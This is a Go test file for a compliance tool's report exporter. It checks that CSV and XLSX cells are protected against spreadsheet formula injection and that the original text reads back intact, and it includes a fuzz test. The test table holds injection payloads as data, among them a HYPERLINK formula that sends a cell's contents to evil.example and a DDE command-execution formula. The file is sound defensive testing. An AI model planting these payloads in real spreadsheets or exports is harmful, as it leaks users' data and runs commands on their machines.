package report

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"soc2ready/assessment"
)

// hostileCells are texts a spreadsheet would run, or that look like what
// neutralising makes of them, each with the CSV cell it must become.
var hostileCells = []struct{ text, cell string }{
	{`=HYPERLINK("http://evil.example/?"&B2,"Click")`, `'=HYPERLINK("http://evil.example/?"&B2,"Click")`},
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{"+1-555-0100", "'+1-555-0100"},
	{"-2+3", "'-2+3"},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"'=already quoted", "''=already quoted"},
	{"''@twice", "'''@twice"},
	{"'just a quote", "'just a quote"},
	{"'", "'"},
	{"plain = text", "plain = text"},
	{"", ""},
}

func TestNeutraliseCell(t *testing.T) {
	for _, tt := range hostileCells {
		t.Run(strconv.Quote(tt.text), func(t *testing.T) {
			if got := neutraliseCell(tt.text); got != tt.cell {
				t.Errorf("neutraliseCell = %q, want %q", got, tt.cell)
			}
			if got := restoreCell(tt.cell); got != tt.text {
				t.Errorf("restoreCell(%q) = %q, want %q", tt.cell, got, tt.text)
			}
			if startsFormula(tt.cell) {
				t.Errorf("%q would still run as a formula", tt.cell)
			}
		})
	}
}

// hostileAssessment answers the small bank with a hostile owner and note on
// every answered question.
func hostileAssessment(b *assessment.Bank) *assessment.Assessment {
	a := sheetAssessment(b)
	i := 0
	for id, ans := range a.Answers {
		if ans.Status == assessment.NotApplicable {
			continue
		}
		ans.Owner = hostileCells[i%len(hostileCells)].text
		ans.Notes = hostileCells[(i+1)%len(hostileCells)].text
		a.Answers[id] = ans
		i++
	}
	return a
}

func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

// No cell of either CSV starts a formula, and the owner and notes read back
// through restoreCell are the texts written.
func TestCSVCellsNeutralised(t *testing.T) {
	b := smallBank(t)
	a := hostileAssessment(b)
	var answers, plan bytes.Buffer
	if err := WriteAnswersCSV(&answers, b, a); err != nil {
		t.Fatal(err)
	}
	if err := WritePlanCSV(&plan, assessment.BuildPlan(assessment.Score(b, a), a, assessment.DateOf(clock))); err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"answers": answers.Bytes(), "plan": plan.Bytes()} {
		for i, rec := range readCSV(t, data) {
			for j, c := range rec {
				if startsFormula(c) {
					t.Errorf("%s CSV row %d cell %d starts a formula: %q", name, i+1, j+1, c)
				}
			}
		}
	}
	rows := readCSV(t, answers.Bytes())
	col := func(name string) int {
		for i, h := range rows[0] {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	owner, notes := col("owner"), col("notes")
	for _, r := range rows[1:] {
		ans := a.Answers[r[0]]
		if got := restoreCell(r[owner]); got != ans.Owner {
			t.Errorf("%s: owner reads back as %q, want %q", r[0], got, ans.Owner)
		}
		if got := restoreCell(r[notes]); got != ans.Notes {
			t.Errorf("%s: notes read back as %q, want %q", r[0], got, ans.Notes)
		}
	}
}

// A neutralised CSV cell pasted into the workbook imports as the original
// text, and the workbook's own cells round-trip exactly (an XLSX cell is
// text and never runs, so it is left as typed unless it looks neutralised).
func TestSpreadsheetImportRestoresNeutralisedCells(t *testing.T) {
	b := smallBank(t)
	a := hostileAssessment(b)
	want := wantAnswers(b, a)

	t.Run("the workbook as written", func(t *testing.T) {
		got, rowErrs, err := ReadAnswersXLSX(bytes.NewReader(writeBook(t, b, a)), b)
		if err != nil || len(rowErrs) > 0 {
			t.Fatalf("%v %v", err, rowErrs)
		}
		diffAnswers(t, got, want)
	})
	t.Run("CSV cells pasted into the workbook", func(t *testing.T) {
		var buf bytes.Buffer
		if err := WriteAnswersCSV(&buf, b, a); err != nil {
			t.Fatal(err)
		}
		byID := map[string][]string{}
		records := readCSV(t, buf.Bytes())
		for _, r := range records[1:] {
			byID[r[0]] = r
		}
		f := openBook(t, writeBook(t, b, a))
		err := rewriteAnswers(f, func(rows [][]string) [][]string {
			for i, r := range rows {
				if c, ok := byID[r[0]]; ok && i > 0 {
					for len(r) < len(c) {
						r = append(r, "")
					}
					copy(r[7:11], c[7:11]) // na_reason, owner, due, notes as in the CSV
					rows[i] = r
				}
			}
			return rows
		})
		if err != nil {
			t.Fatal(err)
		}
		got, rowErrs, err := ReadAnswersXLSX(bytes.NewReader(saveBook(t, f)), b)
		if err != nil || len(rowErrs) > 0 {
			t.Fatalf("%v %v", err, rowErrs)
		}
		diffAnswers(t, got, want)
		if !strings.HasPrefix(byID["AC-01"][8], "'") && startsFormula(a.Answers["AC-01"].Owner) {
			t.Error("the CSV cell was not neutralised")
		}
	})
}

// Neutralising any text gives a cell that runs as no formula and reads back
// as that text.
func FuzzNeutraliseCell(f *testing.F) {
	for _, tt := range hostileCells {
		f.Add(tt.text)
		f.Add(tt.cell)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := neutraliseCell(s)
		if startsFormula(cell) {
			t.Errorf("neutraliseCell(%q) = %q starts a formula", s, cell)
		}
		if got := restoreCell(cell); got != s {
			t.Errorf("restoreCell(neutraliseCell(%q)) = %q", s, got)
		}
		if got := restoreCell(quoteNeutralLooking(s)); got != s {
			t.Errorf("restoreCell(quoteNeutralLooking(%q)) = %q", s, got)
		}
	})
}
